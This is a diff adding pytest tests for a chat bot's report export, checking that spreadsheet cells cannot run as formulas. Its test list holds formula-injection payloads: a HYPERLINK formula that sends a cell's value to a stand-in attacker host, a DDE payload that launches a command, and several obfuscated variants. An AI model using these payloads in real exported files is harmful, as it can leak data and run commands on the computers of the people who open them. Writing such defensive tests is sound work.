@@ -159,3 +159,49 @@ async def test_export_files_are_deleted_a_day_later(sessions, chat, tmp_path: Pa
     worker = ClockWorker(sessions, services, clock=lambda: NOW + timedelta(days=2))
     await worker.tick()
     assert list(folder.iterdir()) == []
+
+
+HOSTILE_CELLS = (
+    '=HYPERLINK("http://attacker.invalid/?"&A1,"bấm")',
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+)
+
+
+@pytest.mark.parametrize("story", HOSTILE_CELLS)
+async def test_export_cells_cannot_run_as_formulas(sessions, chat, story: str) -> None:
+    """A story, an office and a name a spreadsheet would run are exported as text."""
+    code = await file_report(sessions, START, description=story)
+    async with sessions() as session, session.begin():
+        report = await get_report(session, code)
+        report.office_text = story
+        report.reporter_name = story
+    chat.clock.now = NOW
+    for user in (MODERATOR, ADMIN):
+        [sent] = await chat.say("/export", user=user)
+        [row] = _rows(sent.files[0].path)
+        assert row["story"] == "'" + story
+        assert row["office_text"] == "'" + story
+        if user == ADMIN:
+            assert row["reporter_name"] == "'" + story
+        for name, cell in row.items():
+            assert not cell or cell[0] not in "=+-@\t\r＝＋－＠", (name, cell)
+
+
+def test_numbers_are_not_mangled() -> None:
+    from handlers.spreadsheet import safe_cell
+
+    assert safe_cell(-1) == -1
+    assert safe_cell("-1") == "-1"
+    assert safe_cell("+84912345678") == "+84912345678"
+    assert safe_cell("-1,5") == "-1,5"
+    assert safe_cell("Cán bộ - phường 1") == "Cán bộ - phường 1"
+    assert safe_cell("-1+1") == "'-1+1"
